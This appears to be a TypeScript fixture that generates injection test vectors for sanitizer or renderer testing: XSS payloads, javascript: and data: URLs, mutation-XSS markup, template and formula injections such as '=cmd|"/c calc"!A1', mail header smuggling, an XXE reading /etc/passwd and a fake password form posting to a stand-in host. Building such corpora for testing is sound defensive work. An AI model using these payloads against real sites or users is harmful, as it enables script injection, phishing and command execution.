/** Calls that would show that a payload ran. */
export const CALL = 'alert(1)';

/** URLs that run a script, or that lead elsewhere in disguise. */
export const URLS: readonly string[] = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
  ],
  ...['\u0001javascript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', '&#106;avascript:alert(1)'],
  ...[
    '&#x6A;avascript:alert(1)',
    '&#0000106avascript:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
  ],
  ...['javascript://x.example/%0aalert(1)', 'javascript:/*--></title></style></textarea></script>*/alert(1)'],
  ...[
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD4=',
  ],
  ...['data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'blob:https://x.example/1'],
  ...[
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    'jar:javascript:alert(1)',
    '\ufeffjavascript:alert(1)',
  ],
  ...[
    '//elsewhere.example',
    '/\\elsewhere.example',
    '\\\\elsewhere.example',
    '/\t/elsewhere.example',
    'https:elsewhere.example',
  ],
];

/** Elements that load something of themselves and so fire a handler. */
const LOADERS: readonly string[] = [
  ...[
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'input autofocus',
    'details open',
    'iframe',
    'object data=x',
  ],
  ...[
    'embed src=x',
    'link rel=stylesheet href=x',
    'marquee',
    'math',
    'select autofocus',
    'textarea autofocus',
    'p',
    'a href=/',
  ],
];
const HANDLERS: readonly string[] = [
  ...[
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onmouseover',
    'onanimationstart',
    'onpointerrawupdate',
    'onbeforetoggle',
  ],
];
/** Separators that parsers take for a space between attributes, with the quotes of the handler's value. */
const SEPARATORS: readonly string[] = [' ', '/', '\n', '\t', '\f', '\u0000 ', '" ', "' "];

/** Elements with a URL, `$` in its place. */
const LINKS: readonly string[] = [
  ...['<a href="$">x</a>', "<a href='$'>x</a>", '<a href=$>x</a>', '<img src="$">', '<iframe src="$"></iframe>'],
  ...[
    '<form action="$"><button>x</button></form>',
    '<button formaction="$">x</button>',
    '<base href="$">',
    '[x]($)',
    '<$>',
  ],
  ...['<object data="$"></object>', '<svg><a xlink:href="$"><text>x</text></a></svg>', '<math href="$">x</math>'],
  ...['<meta http-equiv="refresh" content="0;url=$">', '<link rel="import" href="$">', '<video poster="$"></video>'],
  ...['<img srcset="$ 1x">', '<div style="background:url($)">x</div>', '<area href="$">', '![x]($)', '[x]: $'],
];

/** Payloads that need no combination: each breaks out of, or into, one kind of document. */
const WHOLE: readonly string[] = [
  // Scripts as browsers read them.
  ...[
    '<script>alert(1)</script>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<script src=//elsewhere.example></script>',
    '<script\n>alert(1)</script\n>',
  ],
  ...[
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '<script x>alert(1)</script/',
    '\u0000<script>alert(1)</script>',
  ],
  ...[
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;lt;script&amp;gt;alert(1)',
    '\\u003cscript\\u003ealert(1)',
    '%3Cscript%3Ealert(1)%3C/script%3E',
  ],
  ...[
    '＜script＞alert(1)＜/script＞',
    '+ADw-script+AD4-alert(1)',
    '<script type=module>import("//elsewhere.example")</script>',
  ],
  // Namespaces and mutations between two parsings.
  ...[
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
  ],
  ...[
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  ...[
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script>',
  ],
  ...[
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1)>',
  ],
  ...[
    '<svg><set attributeName=onmouseover to=alert(1)>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
    '<template><script>alert(1)</script></template>',
  ],
  ...[
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<plaintext><script>alert(1)</script>',
    '<!--><script>alert(1)</script>-->',
  ],
  ...[
    '<![CDATA[><script>alert(1)</script>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    '</p><script>alert(1)</script>',
  ],
  // Forms and frames of somebody else's, and names that hide the page's own.
  ...[
    '<form action=//elsewhere.example><input name=password>',
    '<input form=x formaction=//elsewhere.example type=submit>',
    '<iframe src=//elsewhere.example></iframe>',
  ],
  ...[
    '<dialog open><form method=dialog>',
    '<a id=dataLayer><a id=dataLayer name=push href=x>',
    '<form id=document><input name=cookie></form>',
    '<img name=getElementById>',
  ],
  ...[
    '<h2>preview strip</h2>',
    '<h2>editor bar</h2>',
    '<h2 id=___gatsby>x</h2>',
    '<div is=x-y slot=z part=p>x</div>',
    '<input name=attributes><input name=parentNode>',
  ],
  // Styles.
  ...[
    '<style>@import "//elsewhere.example";</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<link rel=stylesheet href=//elsewhere.example>',
  ],
  // Ends of the documents in which texts are embedded.
  ...[
    '</script><script>alert(1)</script>',
    '</SCRIPT\t><img src=x onerror=alert(1)>',
    '<!--<script>',
    '--><img src=x onerror=alert(1)>',
    '--!><img src=x onerror=alert(1)>',
  ],
  ...[
    '</style><img src=x onerror=alert(1)>',
    '</title><img src=x onerror=alert(1)>',
    '</textarea><img src=x onerror=alert(1)>',
    '</noscript><img src=x onerror=alert(1)>',
  ],
  ...[
    ']]><script>alert(1)</script>',
    ']]]]><![CDATA[>',
    '"}]};alert(1);//',
    '\u2028alert(1)\u2029',
    "';alert(1);'",
    '\\";alert(1);//',
    '${alert(1)}',
    '`;alert(1);`',
  ],
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    '{{name}}',
    '$&$`',
    '%s%n%x',
    '#{7*7}',
    '<%= 7*7 %>',
    '{%7*7%}',
    '__proto__',
    'constructor',
  ],
  // Markdown.
  ...[
    '`<img src=x onerror=alert(1)>`',
    '```\n</code><script>alert(1)</script>\n```',
    '~~~\n<script>\n~~~',
    '> <script>alert(1)</script>',
    '| <script> | a\\|b |',
    '\\<script>',
  ],
  ...[
    '<https://elsewhere.example/"onmouseover=alert(1)>',
    '[x](<javascript:alert(1)>)',
    '[x][y]\n\n[y]: javascript:alert(1)',
    '<div\n>x',
    '    <script>alert(1)</script>',
  ],
  // Spreadsheets, mails, terminals.
  ...[
    '=HYPERLINK("//elsewhere.example","x")',
    '=cmd|"/c calc"!A1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
    '"=1+1',
    "'=1+1",
    '","=1+1',
    '";"=1+1',
  ],
  ...[
    'x\r\nBcc: victim@elsewhere.example',
    'x\nSubject: y',
    'x\rTo: y',
    'x%0d%0aBcc: y',
    'x\u2028Bcc: y',
    'x\u0085Bcc: y',
    '=?utf-8?B?PHNjcmlwdD4=?=',
    '"a b"@x.example,y@z.example',
  ],
  ...[
    'a@x.example\r\n.\r\nRCPT TO:<y@z.example>',
    '\u001b[2Jx',
    '\u001b]8;;//elsewhere.example\u0007x',
    '\u0000',
    'a\u0000b',
    '\u0008\u0008x',
    '\u202ecod.exe',
    '\u2066x\u2069',
    '\u200b',
    '\ufeff',
    '\ud800',
    '\udc00x',
  ],
];

const HANDLED = LOADERS.flatMap((element) =>
  HANDLERS.flatMap((handler) => SEPARATORS.map((separator) => `<${element}${separator}${handler}=${CALL}>`)),
);
const LED = LINKS.flatMap((link) => URLS.map((url) => link.split('$').join(url)));

/** Payloads before they are put into a carrier. */
export const VECTORS: readonly string[] = [...WHOLE, ...URLS, ...HANDLED, ...LED];
